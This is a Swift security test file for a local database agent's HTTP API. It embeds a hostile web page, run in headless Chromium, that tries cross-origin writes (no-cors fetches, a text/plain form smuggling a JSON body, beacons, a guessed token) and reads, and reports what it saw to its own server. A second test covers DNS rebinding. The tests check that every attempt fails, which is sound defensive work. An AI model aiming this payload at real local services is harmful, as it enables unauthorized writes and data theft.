import ArcusCRDT
import Foundation
import Hummingbird
import Logging
import NIOCore
import ServiceLifecycle
import Synchronization
import Testing

/// A web page on the device attacks the agent's API through a real browser (headless
/// Chromium, its own traffic off, every name but 127.0.0.1 unresolvable): a page served from
/// another origin on 127.0.0.1 (another port) tries to write (fetch POST text/plain, a form
/// POST, `no-cors`, a beacon) and to read (fetch, XHR, EventSource, `<img>` and `<script>`
/// probes), then reports what it saw to its own server. The store must be unchanged and the
/// report hold nothing of the agent's. Then a page that re-pointed its own name at the agent
/// (DNS rebinding) asks for the status.
@Suite(.serialized)
struct BrowserAttackTests {
    /// What the hostile page's server received at `/report`.
    final class Reports: Sendable {
        let received = Mutex<[String]>([])
    }

    static func hostilePage(agent: String) -> String {
        #"""
        <!doctype html>
        <html><head><meta charset="utf-8"><title>a page on another origin</title></head>
        <body>
        <pre id="out">running</pre>
        <iframe name="sink1"></iframe><iframe name="sink2"></iframe>
        <script>
        "use strict";
        const agent = "\#(agent)";
        const seen = {};
        const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
        async function attempt(name, run) {
          try { seen[name] = await run(); } catch (error) { seen[name] = "failed: " + error.name; }
        }
        async function answer(response) {
          return { type: response.type, status: response.status, text: await response.text() };
        }
        function probe(tag, url) {
          return new Promise((resolve) => {
            const element = document.createElement(tag);
            element.onload = () => resolve("loaded");
            element.onerror = () => resolve("error");
            element.src = url;
            document.body.append(element);
            setTimeout(() => resolve("no event"), 3000);
          });
        }
        function submit(path, enctype, name, value, target) {
          const form = document.createElement("form");
          form.method = "POST"; form.action = agent + path; form.enctype = enctype; form.target = target;
          const input = document.createElement("input");
          input.type = "hidden"; input.name = name; input.value = value;
          form.append(input);
          document.body.append(form);
          form.submit();
        }
        const insert = (id) => JSON.stringify({ statement: `INSERT INTO pwned DOCUMENTS ({'_id': '${id}'})` });
        (async () => {
          // Writes.
          await attempt("write: fetch POST text/plain no-cors", async () => answer(await fetch(agent + "/v1/execute",
            { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: insert("no-cors") })));
          await attempt("write: fetch POST without a type no-cors", async () => answer(await fetch(agent + "/v1/execute",
            { method: "POST", mode: "no-cors", body: new Blob([insert("no-type")]) })));
          await attempt("write: fetch POST application/json", async () => answer(await fetch(agent + "/v1/execute",
            { method: "POST", headers: { "Content-Type": "application/json" }, body: insert("json") })));
          await attempt("write: fetch POST with a guessed token", async () => answer(await fetch(agent + "/v1/execute",
            { method: "POST", headers: { "Content-Type": "application/json", Authorization: "Bearer " + "0".repeat(64) }, body: insert("guess") })));
          await attempt("write: beacon", async () => navigator.sendBeacon(agent + "/v1/execute", new Blob([insert("beacon")], { type: "text/plain" })));
          await attempt("write: subscribe no-cors", async () => answer(await fetch(agent + "/v1/subscriptions",
            { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ query: "SELECT * FROM pwned" }) })));
          await attempt("write: upload no-cors", async () => answer(await fetch(agent + "/v1/attachments?collection=pwned&id=upload&field=f",
            { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "bytes" })));
          await attempt("write: unsubscribe", async () => answer(await fetch(agent + "/v1/subscriptions/1", { method: "DELETE" })));
          // A text/plain form whose body reads as JSON: {"statement": "…", "pad": "="}.
          submit("/v1/execute", "text/plain", `{"statement": "INSERT INTO pwned DOCUMENTS ({'_id': 'form'})", "pad": "`, `"}`, "sink1");
          submit("/v1/subscriptions", "application/x-www-form-urlencoded", "query", "SELECT * FROM pwned", "sink2");
          await wait(1500);
          await attempt("read: the form's answer", async () => frames["sink1"].document.body.innerText);
          // Reads.
          await attempt("read: fetch status", async () => answer(await fetch(agent + "/v1/status")));
          await attempt("read: fetch status no-cors", async () => answer(await fetch(agent + "/v1/status", { mode: "no-cors" })));
          await attempt("read: fetch the page", async () => answer(await fetch(agent + "/")));
          await attempt("read: XHR status", () => new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.open("GET", agent + "/v1/status");
            request.onload = () => resolve({ status: request.status, text: request.responseText });
            request.onerror = () => resolve("failed: error");
            request.send();
          }));
          await attempt("read: EventSource observe", () => new Promise((resolve) => {
            const source = new EventSource(agent + "/v1/observe?q=" + encodeURIComponent("SELECT * FROM cars"));
            source.onmessage = (event) => { resolve("message: " + event.data); source.close(); };
            source.addEventListener("result", (event) => { resolve("result: " + event.data); source.close(); });
            source.onerror = () => { resolve("failed: error"); source.close(); };
            setTimeout(() => resolve("no event"), 3000);
          }));
          await attempt("read: img probe", () => probe("img", agent + "/v1/status"));
          await attempt("read: script probe", () => probe("script", agent + "/v1/peers"));
          document.getElementById("out").textContent = JSON.stringify(seen);
          await fetch("/report", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(seen) });
          document.getElementById("out").textContent += "\nreported";
        })();
        </script>
        </body></html>
        """#
    }

    @Test("a page on another origin of 127.0.0.1, in Chromium, can neither write to the store nor read anything of the agent's")
    func pageOnAnotherOriginLearnsNothing() async throws {
        let chromium = try HeadlessChromium()
        let scratch = try MeshScratch("browser-attack")
        defer { scratch.remove() }
        let agent = try await RunningAgent.launch(data: scratch.data("agent"), ["--subscribe", "SELECT * FROM cars"])
        defer { agent.dismiss() }
        let written = try await agent.execute("INSERT INTO cars DOCUMENTS ({'_id': 'secret-car', 'owner': 'secret-owner'})")
        #expect(written.status == 200, "\(written.body)")
        let before = try await agent.execute("SELECT * FROM cars").body
        let subscriptionsBefore = try await agent.request(.GET, "/v1/subscriptions").body

        let reports = Reports()
        let router = Router()
        let page = Self.hostilePage(agent: agent.url)
        router.get("/attack.html") { _, _ in
            Response(status: .ok, headers: [.contentType: "text/html; charset=utf-8"], body: ResponseBody(byteBuffer: ByteBuffer(string: page)))
        }
        router.post("/report") { request, _ -> Response in
            let body = try await request.body.collect(upTo: 1 << 20)
            reports.received.withLock { $0.append(String(buffer: body)) }
            return Response(status: .ok)
        }
        let quiet = Logger(label: "hostile") { _ in SwiftLogNoOpLogHandler() }
        let (ports, port) = AsyncStream.makeStream(of: Int.self)
        let hostile = Application(
            router: router, configuration: ApplicationConfiguration(address: .hostname("127.0.0.1", port: 0), serverName: "hostile"),
            onServerRunning: { port.yield($0.localAddress?.port ?? 0) }, logger: quiet
        )
        let group = ServiceGroup(services: [hostile], logger: quiet)
        try await withThrowingTaskGroup(of: Void.self) { tasks in
            tasks.addTask { try await group.run() }
            var iterator = ports.makeAsyncIterator()
            let hostilePort = try #require(await iterator.next())
            #expect(hostilePort != agent.port)
            let dom = try await chromium.dumpDOM("http://127.0.0.1:\(hostilePort)/attack.html")
            await group.triggerGracefulShutdown()
            try await tasks.waitForAll()

            let report = try #require(reports.received.withLock { $0.first }, "the page reported nothing; it showed:\n\(dom.prefix(3000))")
            print("BrowserAttackTests: the hostile page saw \(report)")
            let seen = try #require(try? Value(json: report), "\(report)")
            guard case .object(let attempts) = seen else { Issue.record("\(report)"); return }
            #expect(attempts.count == 16, "\(report)")
            // Nothing of the agent's reached the page: no document, no peer id, no name, no token.
            for secret in ["secret-car", "secret-owner", agent.peer, "test-agent", agent.token, "mutatedDocumentIDs", "subscriptions", "\"graph\""] {
                #expect(!report.contains(secret), "the page learned \(secret): \(report)")
            }
            // Every read failed or came back opaque and empty.
            for (name, outcome) in attempts where name.hasPrefix("read:") {
                switch outcome {
                case .string(let text): #expect(text.hasPrefix("failed") || text == "error" || text == "no event", "\(name): \(text)")
                case .object(let answer): #expect(answer["type"] == "opaque" && answer["text"] == "", "\(name): \(answer)")
                default: Issue.record("\(name): \(outcome)")
                }
            }
        }
        // The store and the subscriptions are as they were.
        #expect(try await APIAccessTests.pwned(agent) == APIAccessTests.empty)
        #expect(try await agent.execute("SELECT * FROM cars").body == before)
        #expect(try await agent.request(.GET, "/v1/subscriptions").body == subscriptionsBefore)
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.data("agent")).filter { $0.hasPrefix(".upload-") }.isEmpty)
    }

    @Test("a page whose own name was re-pointed at the agent (DNS rebinding) gets no status and no page, even with the token in the link")
    func reboundNameIsRefused() async throws {
        let chromium = try HeadlessChromium()
        let scratch = try MeshScratch("browser-rebinding")
        defer { scratch.remove() }
        let agent = try await RunningAgent.launch(data: scratch.data("agent"))
        defer { agent.dismiss() }
        let rebound = "http://rebound.example:\(agent.port)"
        let status = try await chromium.dumpDOM(rebound + "/v1/status", resolving: ["rebound.example"])
        #expect(status.contains("DNS rebinding"), "\(status.prefix(2000))")
        #expect(!status.contains(agent.peer) && !status.contains("test-agent"), "\(status.prefix(2000))")
        let page = try await chromium.dumpDOM(rebound + "/#token=" + agent.token, resolving: ["rebound.example"])
        #expect(page.contains("DNS rebinding") && !page.contains("data-peer"), "\(page.prefix(2000))")
        // The same agent, reached by its loopback address, serves the page.
        let own = try await chromium.dumpDOM(agent.url + "/#token=" + agent.token)
        #expect(own.contains("data-peer=\"\(agent.peer)\""), "\(own.prefix(3000))")
    }
}
